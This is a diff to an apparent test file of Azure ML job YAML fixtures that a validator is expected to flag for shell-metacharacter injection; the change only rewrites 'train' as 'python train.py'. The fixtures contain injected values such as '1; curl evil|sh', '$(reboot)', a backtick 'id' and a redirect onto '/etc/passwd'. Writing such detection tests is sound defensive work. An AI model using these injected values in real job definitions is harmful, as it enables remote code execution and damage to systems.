@@ -306,15 +306,16 @@ PIPELINES = {
 }
 
 ATTACKS = {
-    "command-in-literal": "environment: azureml:e:1\ncommand: train ${{inputs.x}}\n"
+    "command-in-literal": "environment: azureml:e:1\ncommand: python train.py ${{inputs.x}}\n"
     'inputs:\n  x: "1; curl evil|sh"  # error: shell-metacharacter\n',
     "substitution-in-double-quotes": "environment: azureml:e:1\n"
-    'command: train "${{inputs.x}}"\ninputs:\n  x: $(reboot)  # error: shell-metacharacter\n',
-    "quote-out-of-single-quotes": "environment: azureml:e:1\ncommand: train '${{inputs.x}}'\n"
-    "inputs:\n  x: a' b  # error: shell-metacharacter\n",
-    "newline-in-literal": "environment: azureml:e:1\ncommand: train ${{inputs.x}}\n"
+    'command: python train.py "${{inputs.x}}"\n'
+    "inputs:\n  x: $(reboot)  # error: shell-metacharacter\n",
+    "quote-out-of-single-quotes": "environment: azureml:e:1\n"
+    "command: python train.py '${{inputs.x}}'\ninputs:\n  x: a' b  # error: shell-metacharacter\n",
+    "newline-in-literal": "environment: azureml:e:1\ncommand: python train.py ${{inputs.x}}\n"
     "inputs:\n  x: |  # error: shell-metacharacter\n    1\n    reboot\n",
-    "backtick-in-literal": "environment: azureml:e:1\ncommand: train ${{inputs.x}}\n"
+    "backtick-in-literal": "environment: azureml:e:1\ncommand: python train.py ${{inputs.x}}\n"
     "inputs:\n  x: '`id`'  # error: shell-metacharacter\n",
     "argument-of-bash": "environment: azureml:e:1\ncommand: bash -c 'train ${{inputs.x}}'\n"
     "inputs:\n  x: 1 & reboot  # error: shell-metacharacter\n",
@@ -327,7 +328,7 @@ ATTACKS = {
     + "      - a > /etc/passwd  # error: shell-metacharacter\n",
     "literal-of-pipeline": "type: pipeline\ninputs:\n"
     "  x: a; b  # error: shell-metacharacter\njobs:\n"
-    "  s:\n    environment: azureml:e:1\n    command: train ${{inputs.y}}\n"
+    "  s:\n    environment: azureml:e:1\n    command: python train.py ${{inputs.y}}\n"
     "    inputs: {y: '${{parent.inputs.x}}'}\n",
     "literal-into-component": PIPELINE + "  train:\n    component: component.yml\n    inputs:\n"
     "      data: ${{parent.inputs.faq}}\n      rate: 0.5\n"
